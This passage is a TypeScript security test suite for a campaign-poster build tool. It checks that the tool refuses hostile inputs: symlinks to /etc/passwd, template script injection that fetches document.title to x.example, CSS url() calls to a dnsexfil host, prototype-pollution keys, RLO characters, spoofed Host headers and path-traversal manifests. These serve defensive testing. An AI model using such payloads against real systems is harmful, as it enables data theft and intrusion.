import { spawnSync } from 'node:child_process';
import http from 'node:http';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { Console } from 'node:console';
import os from 'node:os';
import path from 'node:path';
import { Writable } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import { startPreview } from '../../src/preview/server.js';
import { sha256 } from '../../src/util/files.js';
import { campaignMd, listFiles, makeProject, REPO, runCli, testimonyMd, writeFiles } from '../helpers.js';

/**
 * Hostile input files, written the way an attacker or a careless tool would: symbolic links out
 * of the project, NUL bytes, another encoding, oversize files; and the files every editor
 * writes (Notepad's CRLF and BOM, old Mac CR). Each hostile one ends with exit 2, names its
 * file (and line for text), prints nothing of what the link points at, and writes nothing.
 */
const bin = path.join(REPO, 'bin', 'campaign-press.js');
let root: string;
let outside: string;
let cleanup: () => void;
beforeEach(() => {
  ({ root, cleanup } = makeProject());
  outside = mkdtempSync(path.join(os.tmpdir(), 'cp-outside-'));
});
afterEach(() => {
  cleanup();
  rmSync(outside, { recursive: true, force: true });
});

const NO_CHROMIUM = { CAMPAIGN_PRESS_CHROMIUM: '/nonexistent-so-rendering-would-fail' };

/** The real binary, for the cases that prove the whole process (exit status, everything it prints). */
function cli(args: string[], cwd = root) {
  const r = spawnSync(process.execPath, [bin, '--root', root, ...args], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1', ...NO_CHROMIUM },
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

/**
 * The CLI's main in-process: a spawned binary per case spent most of this file's minutes loading
 * modules. What the process itself would print is caught too (process.stdout and stderr, and the
 * console, which the test runner otherwise takes) and joins stdout and stderr as it would in the
 * binary's, so a leak through a stray log still fails the case.
 */
async function inProcess(args: string[], cwd = root) {
  const stray = { out: '', err: '' };
  const { write: outWrite } = process.stdout;
  const { write: errWrite } = process.stderr;
  const { console } = globalThis;
  const catcher = (k: 'out' | 'err') => (c: string | Uint8Array) => {
    stray[k] += Buffer.from(c).toString();
    return true;
  };
  const stream = (k: 'out' | 'err') =>
    new Writable({
      write: (c: Buffer, _encoding, done) => {
        catcher(k)(c);
        done();
      },
    });
  process.stdout.write = catcher('out') as typeof process.stdout.write;
  process.stderr.write = catcher('err') as typeof process.stderr.write;
  globalThis.console = new Console(stream('out'), stream('err'));
  try {
    const r = await runCli(['--root', root, ...args], { cwd, env: NO_CHROMIUM });
    return { code: r.code, stdout: r.stdout + stray.out, stderr: r.stderr + stray.err };
  } finally {
    process.stdout.write = outWrite;
    process.stderr.write = errWrite;
    globalThis.console = console;
  }
}

type Run = (args: string[], cwd?: string) => Promise<{ code: number | null; stdout: string; stderr: string }>;
const binary: Run = async (args, cwd) => cli(args, cwd);

const cdir = () => path.join(root, 'campaigns', 'c');

/** `check` loads and validates everything a build would, without a browser; then `build` must refuse too. */
async function check(files: Record<string, string | Buffer> = {}, run: Run = inProcess) {
  writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }), ...files });
  const r = await run(['check', 'campaigns/c', '--as-of', '2026-06-01']);
  const b = await run(['build', 'campaigns/c', '--out', 'out', '--as-of', '2026-06-01']);
  expect(listFiles(path.join(root, 'out'))).toEqual([]);
  return { ...r, build: b };
}

/** A file outside the project whose content must never show up in any output or message. */
function secretOutside(name: string, content: string): string {
  const p = path.join(outside, name);
  writeFileSync(p, content);
  return p;
}

function replaceWithLink(file: string, target: string) {
  unlinkSync(file);
  symlinkSync(target, file);
}

describe('symbolic links out of the project are refused, not followed', () => {
  const SECRET = 'SECRET-CANARY-4f1c: not for any poster';

  for (const [what, rel] of [
    ['template.hbs', 'templates/social-card/template.hbs'],
    ['style.css', 'templates/social-card/style.css'],
    ['_shared/base.css', 'templates/_shared/base.css'],
    ['template.json', 'templates/social-card/template.json'],
  ] as const) {
    it(`a symlinked ${what}`, async () => {
      replaceWithLink(path.join(root, rel), secretOutside('x', SECRET));
      const r = await check();
      for (const x of [r, r.build]) {
        expect(x.code, x.stderr).toBe(2);
        expect(x.stderr).toContain(`${rel}: ${rel} resolves (through a symbolic link) outside the templates folder`);
        expect(x.stdout + x.stderr).not.toContain('SECRET-CANARY');
      }
    });
  }

  it('a template.hbs linked to /etc/passwd (the real binary)', async () => {
    replaceWithLink(path.join(root, 'templates/social-card/template.hbs'), '/etc/passwd');
    const r = await check({}, binary);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/templates\/social-card\/template\.hbs: .* outside the templates folder/);
    expect(r.stdout + r.stderr).not.toMatch(/root:x?:0:/);
  });

  it('a testimony linked to a valid testimony outside the project', async () => {
    const target = secretOutside('t9.md', testimonyMd({ id: 't9', quote: SECRET }));
    mkdirSync(path.join(cdir(), 'testimonies'), { recursive: true });
    symlinkSync(target, path.join(cdir(), 'testimonies', 't9.md'));
    const r = await check();
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('campaigns/c/testimonies/t9.md: campaigns/c/testimonies/t9.md resolves (through a symbolic link) outside');
    expect(r.stdout + r.stderr).not.toContain('SECRET-CANARY');
  });

  it('a testimonies folder linked out of the campaign lists nothing of it', async () => {
    writeFileSync(path.join(outside, 't9.md'), testimonyMd({ id: 't9', quote: SECRET }));
    writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }) });
    symlinkSync(outside, path.join(cdir(), 'testimonies'));
    const r = await check();
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/campaigns\/c\/testimonies .*outside the campaign folder/);
    expect(r.stdout + r.stderr).not.toContain('SECRET-CANARY');
  });

  it('a campaign message file linked out of the locales folder', async () => {
    mkdirSync(path.join(root, 'locales', 'ckb'), { recursive: true });
    symlinkSync(secretOutside('c.json', JSON.stringify({ headline: SECRET })), path.join(root, 'locales', 'ckb', 'c.json'));
    const r = await check({ 'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb'] }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/locales\/ckb\/c\.json: .*outside the locales folder/);
    expect(r.stdout + r.stderr).not.toContain('SECRET-CANARY');
  });

  it('control: a link that stays inside the project is followed (containment, not a ban on links)', async () => {
    mkdirSync(path.join(cdir(), 'testimonies'), { recursive: true });
    // Inside the campaign folder: allowed.
    writeFiles(path.join(cdir(), 'archive'), { 't1.md': testimonyMd({ id: 't1' }) });
    symlinkSync(path.join(cdir(), 'archive', 't1.md'), path.join(cdir(), 'testimonies', 't1.md'));
    expect((await check()).code).toBe(0);
  });
});

describe('bytes that are not text', () => {
  it('a NUL byte in a testimony: exit 2 with file:line', async () => {
    const t = testimonyMd({ id: 't1', body: 'He paid the smuggler.\nThe boat\u0000 was not safe.' });
    const line = t.split('\n').findIndex((l) => l.includes('\u0000')) + 1;
    const r = await check({ 'testimonies/t1.md': t });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`campaigns/c/testimonies/t1.md:${line}: a NUL byte (U+0000) is in the text`);
  });

  it('a UTF-16 export (NUL after every ASCII letter) is refused at line 1', async () => {
    const r = await check({ 'campaign.md': Buffer.from(`\uFEFF${campaignMd({ id: 'c' })}`, 'utf16le') });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/campaigns\/c\/campaign\.md:1: (invalid UTF-8|a NUL byte)/);
  });

  it('a Windows-1256 (Arabic code page) campaign.md: invalid UTF-8 at the right line', async () => {
    // "کارمەند" as a legacy code page would store it is not UTF-8: 0xDF 0xC7 ... on line 3.
    const utf8 = Buffer.from(campaignMd({ id: 'c' }));
    const lines = utf8.toString().split('\n');
    const i = lines.findIndex((l) => l.startsWith('title:'));
    const before = Buffer.from(`${lines.slice(0, i).join('\n')}\ntitle: `);
    const after = Buffer.from(`\n${lines.slice(i + 1).join('\n')}`);
    const r = await check({ 'campaign.md': Buffer.concat([before, Buffer.from([0xdf, 0xc7, 0xd1, 0xe3]), after]) });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`campaigns/c/campaign.md:${i + 1}: invalid UTF-8 (byte 0xdf at line ${i + 1})`);
    expect(r.stderr).not.toContain('\uFFFD');
  });

  it('invalid UTF-8 in a locale file is an error, not U+FFFD in print', async () => {
    writeFiles(path.join(root, 'locales', 'ckb'), {
      'c.json': Buffer.concat([Buffer.from('{\r\n  "headline": "'), Buffer.from([0xc3, 0x28]), Buffer.from('"\r\n}\r\n')]),
    });
    const r = await check({ 'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb'] }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('locales/ckb/c.json:2: invalid UTF-8');
  });

  it('an oversize testimony is refused before it is read', async () => {
    const r = await check({ 'testimonies/t1.md': testimonyMd({ id: 't1', body: 'A'.repeat(5 * 1024 * 1024) }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/campaigns\/c\/testimonies\/t1\.md: .* is 5\.0 MB; the limit is 4\.0 MB/);
  });
});

describe('every editor: CRLF, CR and a BOM', () => {
  const crlf = (s: string) => `\uFEFF${s.replace(/\n/g, '\r\n')}`;

  it('a campaign.md and testimony saved by Notepad (BOM + CRLF), with a CRLF locale file, pass check', async () => {
    writeFiles(path.join(root, 'locales', 'ckb'), {
      'c.json': crlf(
        JSON.stringify(
          {
            headline: 'پێش ئەوەی بڕۆیت ڕاستییەکە بزانە.',
            subline: 'دەریا ڕاستییە. بەڵێنەکان ڕاست نین.',
            cta: 'پەیوەندی بە هێڵی یارمەتیی خۆڕایییەوە بکە',
          },
          null,
          2,
        ),
      ),
    });
    const r = await check({
      'campaign.md': crlf(campaignMd({ id: 'c', locales: ['en', 'ckb'], body: 'First line.\n\nSecond paragraph.' })),
      'testimonies/t1.md': crlf(testimonyMd({ id: 't1' })),
    });
    expect(r.stderr).not.toMatch(/YAML syntax error/);
    expect(r.code).toBe(0);
  });

  it('line numbers stay right in CRLF and in CR-only files', async () => {
    const src = campaignMd({ id: 'c', extraFrontmatter: 'colour: red\n' });
    const line = src.split('\n').findIndex((l) => l.startsWith('colour:')) + 1;
    for (const text of [crlf(src), src.replace(/\n/g, '\r')]) {
      const r = await check({ 'campaign.md': text });
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`campaigns/c/campaign.md:${line} colour: unknown field "colour"`);
    }
  });
});

describe('keys that reach the prototype', () => {
  it('a locale JSON with a __proto__ key is refused with its line', async () => {
    writeFiles(path.join(root, 'locales', 'ckb'), { 'c.json': '{\n  "headline": "x",\n  "__proto__": { "polluted": "yes" }\n}\n' });
    const r = await check({ 'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb'] }) });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('locales/ckb/c.json:3 __proto__: key "__proto__" is not allowed');
  });
});

describe('templates are checked as what they produce', () => {
  const SPEC = JSON.stringify({
    description: 'x',
    channel: 'social',
    output: 'png',
    formats: { sq: { width: 400, height: 400, unit: 'px' } },
  });
  const LOGO_CAMPAIGN = campaignMd({ id: 'c', outputs: '  - template: evil' }).replace(
    '  accent: "#F2B705"',
    '  accent: "#F2B705"\n  logo: assets/logo.png',
  );
  /**
   * A template named evil, used by the campaign; `check` renders every page without a browser,
   * and `build` (whose Chromium does not exist) must refuse before it would start one.
   */
  async function withTemplate(files: { hbs?: string; css?: string; base?: string }) {
    writeFiles(path.join(root, 'templates', 'evil'), {
      'template.json': SPEC,
      'template.hbs': files.hbs ?? '<main class="page"><h1>{{t "campaign:headline"}}</h1></main>\n',
      'style.css': files.css ?? '.page { color: var(--primary); }\n',
    });
    if (files.base !== undefined) writeFiles(path.join(root, 'templates', '_shared'), { 'base.css': files.base });
    const logo = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#0b3d5c' } })
      .png()
      .toBuffer();
    writeFiles(cdir(), { 'campaign.md': LOGO_CAMPAIGN, 'assets/logo.png': logo });
    const r = await inProcess(['check', 'campaigns/c', '--as-of', '2026-06-01']);
    const build = await inProcess(['build', 'campaigns/c', '--out', 'out', '--as-of', '2026-06-01']);
    expect(listFiles(path.join(root, 'out'))).toEqual([]);
    return { ...r, build };
  }
  /** Refused at check and at build, exit 2, with the file and line that wrote it. */
  function refused(r: Awaited<ReturnType<typeof withTemplate>>, where: RegExp, message: RegExp) {
    for (const [cmd, out] of [
      ['check', r],
      ['build', r.build],
    ] as const) {
      expect(out.code, `${cmd}: ${out.stderr}`).toBe(2);
      expect(out.stderr, cmd).toMatch(where);
      expect(out.stderr, cmd).toMatch(message);
    }
  }

  it('control: an ordinary template passes (sections, img from the asset origin, grid, custom properties, @font-face, @page, @media print)', async () => {
    const r = await withTemplate({
      hbs: `<main class="page grid" data-no-overflow="page">
  <header class="top" role="banner"><img class="logo" src="{{asset campaign.brand.logo}}" alt="{{t "campaign:title"}}" width="40" height="40"></header>
  <section class="hero" style="background-image: url({{asset campaign.brand.logo}}); --tint: {{campaign.brand.primary}}">
    <h1 class="headline" data-fit="headline">{{t "campaign:headline"}}</h1>
    <p class="subline" aria-label="{{t "campaign:subline"}}"><em>{{t "campaign:subline"}}</em></p>
  </section>
  <nav><ul><li><a href="{{url campaign.contact.url}}">{{campaign.contact.url_display}}</a></li></ul></nav>
  <footer><figure class="qr-box">{{qr campaign.contact.url}}<figcaption>{{t "scan_qr"}}</figcaption></figure>
    <time datetime="2026-06-01">{{date "2026-06-01"}}</time><span class="hotline" dir="ltr">{{campaign.contact.hotline}}</span></footer>
</main>
`,
      css: `@font-face { font-family: "Brand"; src: url("https://assets.campaign-press.invalid/fonts/brand.woff2") format("woff2"); font-display: block; }
@page { size: A4; margin: 0; }
:root { --gap: clamp(4px, 2vw, 24px); --ink: oklch(30% 0.05 240); }
.grid { display: grid; grid-template-columns: repeat(2, minmax(0, 1fr)); gap: var(--gap, 8px); }
.hero { display: flex; flex-direction: column; padding: calc(2 * var(--gap)); min-height: min(50%, 300px); max-width: max(20rem, 40%); }
.hero { background: linear-gradient(to bottom, rgb(0 0 0 / 0.2), hsl(200 50% 20%)), color-mix(in srgb, var(--primary) 60%, white); }
.headline { font-family: "Brand", var(--font); transform: translate(0, 1px) rotate(1deg); }
.top img { inline-size: 10%; aspect-ratio: 1; }
@media print { .page { break-after: page; } }
@supports (text-wrap: balance) { .headline { text-wrap: balance; } }
`,
      base: `*, *::before, *::after { box-sizing: border-box; }\n.page { position: relative; width: var(--page-w); height: var(--page-h); }\n.hotline:not(:empty)::before { content: "\\260E"; }\n`,
    });
    expect(r.stderr).not.toMatch(/template-unsafe|not allowed/);
    expect(r.code, r.stderr).toBe(0);
    // The build got past every template check and stopped only where it needs Chromium.
    expect(r.build.stderr).not.toMatch(/template-unsafe|not allowed/);
    expect(r.build.code).toBe(4);
  });

  it('a <script> split with {{!}} is seen after Handlebars ran, at its line', async () => {
    const r = await withTemplate({
      hbs: '<main class="page">\n<scr{{!}}ipt>fetch("https://x.example/"+document.title)</scr{{!}}ipt>\n</main>\n',
    });
    refused(r, /templates\/evil\/template\.hbs:2: <script> is not allowed in a template \(in the page the template produced\)/, /exit|/);
  });

  it('an iframe, an event handler and an SVG url() split with {{!}}, each at its line', async () => {
    const r = await withTemplate({
      hbs: '<main class="page">\n<ifr{{!}}ame src="{{url campaign.contact.url}}"></ifr{{!}}ame>\n<p o{{!}}nclick="x()">a</p>\n<svg><path fill="u{{!}}rl(https://x.example/p)" d="M0 0h1v1z"/></svg>\n</main>\n',
    });
    refused(r, /template\.hbs:2: <iframe> is not allowed/, /template\.hbs:3: attribute onclick on <p> is not allowed/);
    expect(r.stderr).toMatch(/template\.hbs:4: url\(\) in attribute fill on <path> is not allowed/);
  });

  it('an <img> from anywhere but the asset origin', async () => {
    const r = await withTemplate({ hbs: '<main class="page">\n\n<img src="{{url campaign.contact.url}}" alt="">\n</main>\n' });
    refused(
      r,
      /template\.hbs:3: <img src> may only load campaign images through the asset helper, not "https:\/\/example\.org\/test"/,
      /./,
    );
  });

  for (const [what, css, line, message] of [
    [
      'an escaped url(',
      '.a { color: red; }\n.page { background: u\\72l(https://x.example/a.png); }\n',
      2,
      /does not parse cleanly|could not read|url\(/,
    ],
    [
      'an escaped url( with a quoted string',
      '.page { background: \\75 rl("https://x.example/a.png"); }\n',
      1,
      /CSS function url\(\) is not allowed/,
    ],
    ['an escaped @import', '.a { color: red; }\n\n@\\69mport "https://x.example/a.css";\n', 3, /@import is not allowed/],
    [
      'image-set()',
      '.page {\n  background-image: image-set("https://x.example/a.png" 1x);\n}\n',
      2,
      /CSS function image-set\(\) is not allowed/,
    ],
    [
      'a </style> breakout',
      '.page { color: red; }\n</style><iframe src="https://x.example/"></iframe><style>\n',
      2,
      /"<\/" in CSS could end the <style> element/,
    ],
    [
      '@font-face from the network',
      '@font-face {\n  font-family: x;\n  src: url(https://x.example/f.woff2);\n}\n',
      3,
      /url\(https:\/\/x\.example\/f\.woff2\) is not allowed in template CSS/,
    ],
    [
      'url() to the asset origin as a user name',
      '.page { background: url("https://assets.campaign-press.invalid@x.example/a.png"); }\n',
      1,
      /is not allowed/,
    ],
  ] as const) {
    it(`style.css with ${what}`, async () => {
      const r = await withTemplate({ css });
      refused(r, new RegExp(`templates/evil/style\\.css:${line}: `), message);
    });
  }

  it('a hostile _shared/base.css is checked too', async () => {
    const r = await withTemplate({ base: ':root { --x: 1; }\n.page { background: url("https://dnsexfil.example/a.png"); }\n' });
    refused(r, /templates\/_shared\/base\.css:2: url\(https:\/\/dnsexfil\.example\/a\.png\) is not allowed/, /./);
  });

  it('an escaped @import in _shared/base.css', async () => {
    const r = await withTemplate({ base: '.page { color: red; }\n@\\69mport url(https://x.example/a.css);\n' });
    refused(r, /templates\/_shared\/base\.css:2: @import is not allowed/, /./);
  });

  it('a style attribute is parsed as CSS', async () => {
    const r = await withTemplate({
      hbs: '<main class="page" style="background-image: image-set(&quot;https://x.example/a.png&quot; 1x)">x</main>\n',
    });
    refused(r, /template\.hbs:1: style attribute: CSS function image-set\(\) is not allowed/, /./);
  });

  it('{{log}} and {{lookup}} are not helpers; @root holds only the data', async () => {
    await withTemplate({});
    writeFiles(path.join(root, 'templates', 'evil'), { 'template.hbs': '<main class="page">{{log campaign.id}}</main>\n' });
    // The real binary, whose stdout (--json) a {{log}} would write into.
    const log = cli(['check', 'campaigns/c', '--as-of', '2026-06-01', '--json']);
    expect(log.code).toBe(2);
    // stdout is one JSON report and nothing else: a log line would break it.
    const report = JSON.parse(log.stdout) as { errors: { code: string; file?: string; message: string }[] };
    expect(report.errors.some((e) => e.file === 'templates/evil/template.hbs' && /\blog\b/.test(e.message))).toBe(true);
    expect((await withTemplate({ hbs: '<main class="page">{{lookup campaign "id"}}</main>\n' })).code).toBe(2);
    const root_ = await withTemplate({ hbs: '<main class="page">{{@root._ctx.lng}}</main>\n' });
    expect(root_.code).toBe(2);
    // The helpers' context is not in the data: @root._ctx is undefined.
    expect(root_.stderr).toMatch(/"lng" not defined in undefined/);
  });
});

describe('locales import through --root, run from another folder', () => {
  /** Every byte of the project's locales and campaigns, to prove an import left them alone. */
  function snapshot(): Map<string, string> {
    const files = new Map<string, string>();
    for (const dir of ['locales', 'campaigns'])
      for (const f of listFiles(path.join(root, dir))) files.set(`${dir}/${f}`, sha256(readFileSync(path.join(root, dir, f))));
    return files;
  }
  function setup() {
    writeFiles(cdir(), {
      'campaign.md': campaignMd({ id: 'c', locales: ['en', 'ckb', 'ps'] }),
    });
    writeFiles(path.join(root, 'locales', 'ckb'), {
      'c.json': `${JSON.stringify({ title: 'گەشتی سەلامەت', headline: 'ڕاستی بزانە', subline: 'دەریا ڕاستە.', cta: 'پەیوەندی بکە' }, null, 2)}\n`,
    });
    writeFiles(path.join(root, 'locales', 'ps'), {
      'c.json': `${JSON.stringify({ title: 'خوندي سفر', headline: 'حقیقت وپېژنئ', subline: 'سمندر ریښتیا دی.', cta: 'زنګ ووهئ' }, null, 2)}\n`,
    });
  }
  /** In-process, from `cwd` (the process moves there), with --root naming the project. */
  const inCwd = (args: string[], cwd: string) => runCli(['--root', root, ...args], { cwd });
  /** The CAT tool's file: an export with one target edited, saved where the translator works. */
  async function edited(cwd: string, locale: string, format: string, unit: string, target: string): Promise<string> {
    const r = await inCwd(['locales', 'export', '-l', locale, '--format', format], cwd);
    expect(r.code, r.stderr).toBe(0);
    const re = new RegExp(`(<(?:trans-unit|unit) id="${unit}"[\\s\\S]*?<target[^>]*>)[^<]*(</target>)`);
    expect(r.stdout).toMatch(re);
    return r.stdout.replace(re, (_m, a: string, b: string) => `${a}${target}${b}`);
  }

  const cases: [string, string, string, string, RegExp][] = [
    ['a <script> element', 'ckb', 'xliff2', '&lt;script&gt;fetch("https://x.example/"+document.title)&lt;/script&gt;', /headline.*markup/],
    ['a triple-stash', 'ckb', 'xliff12', '{{{campaign.body}}}', /headline/],
    ['an RLO that would print the hotline backwards', 'ps', 'xliff2', '\u202E0000 000 057 469+', /headline.*bidi/],
  ];
  for (const [what, locale, format, target, message] of cases) {
    for (const [where, cwd] of [
      ['the parent of the project', () => path.dirname(root)],
      ['an unrelated folder', () => outside],
    ] as const) {
      it(`${what} (${format}), from ${where}: exit 2, nothing written`, async () => {
        setup();
        const xml = await edited(cwd(), locale, format, 'headline', target);
        // The parent folder is the shared temp folder: a name of this project's own, removed after.
        const name = `${path.basename(root)}-from-cat.xlf`;
        writeFileSync(path.join(cwd(), name), xml);
        const before = snapshot();
        const r = await inCwd(['locales', 'import', name], cwd());
        rmSync(path.join(cwd(), name));
        expect(r.code, r.stdout + r.stderr).toBe(2);
        expect(r.stdout + r.stderr).toMatch(message);
        expect(snapshot()).toEqual(before);
      });
    }
  }

  for (const format of ['xliff12', 'xliff2']) {
    it(`a truncated file (${format}), from another folder: exit 2 naming the file and line, nothing written`, async () => {
      setup();
      const xml = await edited(outside, 'ckb', format, 'headline', 'ڕاستییەکە بزانە');
      // Cut after the edited unit, as a failed upload would: what is left still reads as XLIFF.
      const cut = xml.slice(0, xml.indexOf('</target>', xml.indexOf('ڕاستییەکە بزانە')) + 40);
      writeFileSync(path.join(outside, 'cut.xlf'), cut);
      const before = snapshot();
      const r = await inCwd(['locales', 'import', 'cut.xlf'], outside);
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(
        new RegExp(`cut\\.xlf:${cut.split('\n').length}: not a complete XLIFF file: <\\w+> \\(line \\d+\\) is never closed`),
      );
      expect(snapshot()).toEqual(before);
    });
  }

  it('the real binary, run from the parent folder with --root: an RLO is refused, nothing written', () => {
    setup();
    const exported = cli(['locales', 'export', '-l', 'ps', '--format', 'xliff12'], path.dirname(root));
    expect(exported.code, exported.stderr).toBe(0);
    const xml = exported.stdout.replace(/(<trans-unit id="cta"[\s\S]*?<target[^>]*>)[^<]*/, '$1\u202Eزنګ ووهئ');
    expect(xml).not.toBe(exported.stdout);
    writeFileSync(path.join(path.dirname(root), `${path.basename(root)}-ps.xlf`), xml);
    const before = snapshot();
    const r = cli(['locales', 'import', `${path.basename(root)}-ps.xlf`], path.dirname(root));
    rmSync(path.join(path.dirname(root), `${path.basename(root)}-ps.xlf`));
    expect(r.code, r.stdout + r.stderr).toBe(2);
    expect(r.stdout).toMatch(/ps\s.*c\.json\s+cta\s+bidi-override/);
    expect(snapshot()).toEqual(before);
  });

  it('control: the same edit, harmless, is written from the same folder', async () => {
    setup();
    const xml = await edited(path.dirname(root), 'ckb', 'xliff2', 'headline', 'ڕاستییەکە بزانە');
    writeFileSync(path.join(path.dirname(root), `${path.basename(root)}.xlf`), xml);
    const before = snapshot();
    const r = await inCwd(['locales', 'import', `${path.basename(root)}.xlf`], path.dirname(root));
    rmSync(path.join(path.dirname(root), `${path.basename(root)}.xlf`));
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const after = snapshot();
    expect([...after].filter(([f, h]) => before.get(f) !== h).map(([f]) => f)).toEqual(['locales/ckb/c.json']);
    expect(JSON.parse(readFileSync(path.join(root, 'locales', 'ckb', 'c.json'), 'utf8')).headline).toBe('ڕاستییەکە بزانە');
  });
});

describe('preview answers only its own names and never follows a link in out/', () => {
  /** A request with the Host header a DNS-rebinding page would send (fetch does not let a test set it). */
  function get(port: number, p: string, host: string): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      // No Host header at all when host is empty (Node would otherwise send its own).
      const headers = host ? { Host: host } : {};
      const req = http.request({ host: '127.0.0.1', port, path: p, headers, setHost: host !== '' }, (res) => {
        let body = '';
        res.setEncoding('latin1');
        res.on('data', (d: string) => (body += d));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      req.on('error', reject);
      req.end();
    });
  }

  it('Host evil.example:PORT gets 421 and nothing of the campaign; 127.0.0.1:PORT and localhost:PORT are answered; links in out/ are 404', async () => {
    writeFiles(path.join(root, 'campaigns', 'p'), { 'campaign.md': campaignMd({ id: 'p' }) });
    const out = path.join(root, 'out');
    // What a build left, plus what a hostile shard could: a link out of the project and a link inside out/.
    const png = await sharp({ create: { width: 4, height: 4, channels: 3, background: '#0b3d5c' } })
      .png()
      .toBuffer();
    const SECRET = 'SECRET-CANARY-preview-7d2e';
    writeFiles(path.join(out, 'p', 'en'), { 'real.png': png });
    writeFiles(outside, { 'secret.png': SECRET, 'inner/x.png': SECRET });
    symlinkSync(path.join(outside, 'secret.png'), path.join(out, 'p', 'en', 'leak.png'));
    symlinkSync(path.join(out, 'p', 'en', 'real.png'), path.join(out, 'p', 'en', 'alias.png'));
    symlinkSync(path.join(outside, 'inner'), path.join(out, 'p', 'ckb'));
    // No Chromium: the build fails at rendering, after the campaign is known, and the server stays up.
    const preview = await startPreview({
      root,
      campaignDir: path.join(root, 'campaigns', 'p'),
      out,
      port: 0,
      asOf: '2026-06-01',
      chromium: '/nonexistent-so-rendering-would-fail',
    });
    try {
      const port = Number(new URL(preview.url).port);
      expect(preview.url).toBe(`http://127.0.0.1:${port}/`);
      for (const host of [
        `evil.example:${port}`,
        `127.0.0.1.evil.example:${port}`,
        `localhost.:${port}`,
        '127.0.0.1',
        `127.0.0.1:${port + 1}`,
        '',
      ]) {
        for (const p of ['/', '/api/status', '/files/en/real.png']) {
          const r = await get(port, p, host);
          // Node's own server answers a request without Host with 400; every foreign name gets our 421.
          expect(r.status, `${host} ${p}`).toBe(host ? 421 : 400);
          expect(r.body).not.toMatch(/"p"|real\.png|campaign|refusal/i);
        }
      }
      for (const host of [`127.0.0.1:${port}`, `localhost:${port}`, `LOCALHOST:${port}`]) {
        const status = await get(port, '/api/status', host);
        expect(status.status, host).toBe(200);
        expect(JSON.parse(status.body)).toHaveProperty('generation');
        const file = await get(port, '/files/en/real.png', host);
        expect(file.status, host).toBe(200);
        expect(Buffer.from(file.body, 'latin1').equals(png)).toBe(true);
      }
      for (const p of ['/files/en/leak.png', '/files/en/alias.png', '/files/ckb/x.png']) {
        const r = await get(port, p, `127.0.0.1:${port}`);
        expect(r.status, p).toBe(404);
        expect(r.body).not.toContain(SECRET);
      }
    } finally {
      await preview.close();
    }
  });
});

describe('bundle --merge with a hostile shard manifest', () => {
  const EVIL = '#!/bin/sh\necho owned\n';
  /** A shard folder as another CI job could leave it: a manifest naming `campaign` and one asset at `assetPath`. */
  function shard(campaign: string, assetPath: string) {
    const dir = path.join(root, 'shard-1', 'c');
    writeFiles(dir, { 'en/evil.sh': EVIL });
    if (!/\.\.|\\/.test(assetPath)) writeFiles(dir, { [assetPath]: EVIL });
    const asset = {
      path: assetPath,
      sha256: sha256(EVIL),
      bytes: Buffer.byteLength(EVIL),
      locale: 'en',
      template: 'social-card',
      format: 'square',
      output: 'png',
      channel: 'social',
      consent_ids: [],
      testimonies: [],
      key: 'k',
    };
    const manifest = {
      manifest_version: 1,
      generator: 'x',
      campaign,
      as_of: '2026-06-01',
      regions: ['IQ-AR'],
      shard: '1/2',
      assets: [asset],
      refusals: [],
    };
    writeFiles(dir, { 'manifest.json': JSON.stringify(manifest, null, 2) });
  }
  /** Every file under the project's parent folder that belongs to this test (the project and its siblings named like it). */
  const around = () => listFiles(root).filter((f) => !f.startsWith('shard-1/'));
  /** `bundle --merge` of shard-1 exits 2 with `message` and writes nothing in, beside or around --out. */
  async function mergeRefused(message: RegExp | string) {
    const before = around();
    const r = await inProcess(['bundle', 'campaigns/c', '--merge', 'shard-1', '--out', 'release']);
    expect(r.code, r.stderr).toBe(2);
    if (typeof message === 'string') expect(r.stderr).toContain(message);
    else expect(r.stderr).toMatch(message);
    expect(around()).toEqual(before);
    expect(listFiles(path.join(root, 'release'))).toEqual([]);
    expect(listFiles(path.join(root, 'victim'))).toEqual([]);
    expect(listFiles(path.join(path.dirname(root), 'victim'))).toEqual([]);
  }

  it('control: the same shard with plain names is merged into --out', async () => {
    writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }) });
    // A path the campaign plans: merge also refuses any asset the current plan does not hold.
    shard('c', 'en/social-card-square.png');
    const r = await inProcess(['bundle', 'campaigns/c', '--merge', 'shard-1', '--out', 'release']);
    expect(r.code, r.stderr).toBe(0);
    expect(listFiles(path.join(root, 'release'))).toContain('c/en/social-card-square.png');
  });

  for (const [what, campaign, assetPath, message] of [
    ['a campaign id "../victim"', '../victim', 'en/evil.sh', /holds campaign \.\.\/victim, not c|not a plain name/],
    ['an asset path climbing out', 'c', 'en/../../../victim/evil.sh', /assets\[0\]\.path|not a plain relative path/],
    ['an asset path with backslashes', 'c', 'en\\..\\..\\victim\\evil.sh', /not a plain relative path/],
  ] as const) {
    it(`${what}: exit 2, nothing written inside or outside --out`, async () => {
      writeFiles(cdir(), { 'campaign.md': campaignMd({ id: 'c' }) });
      shard(campaign, assetPath);
      await mergeRefused(message);
    });
  }

  for (const [where, message] of [
    ['outside the shard folder', 'shard-1/c/manifest.json resolves (through a symbolic link) outside shard-1'],
